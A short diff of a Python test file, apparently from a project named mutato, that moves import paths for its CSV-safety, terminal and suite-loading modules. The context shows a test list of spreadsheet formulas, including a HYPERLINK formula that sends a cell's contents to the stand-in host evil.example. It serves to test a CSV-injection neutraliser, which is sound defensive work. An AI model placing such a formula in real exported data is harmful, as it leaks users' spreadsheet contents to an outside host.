@@ -10,10 +10,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from mutato.csv_safety import neutralise, restore
+from mutato.cli.terminal import shown
 from mutato.errors import SuiteError
-from mutato.suite_loading import load_suite
-from mutato.terminal import shown
+from mutato.io_safety.csv_safety import neutralise, restore
+from mutato.suite.loading import load_suite
 
 #: Cells a spreadsheet would evaluate, as claims of a suite.
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3",
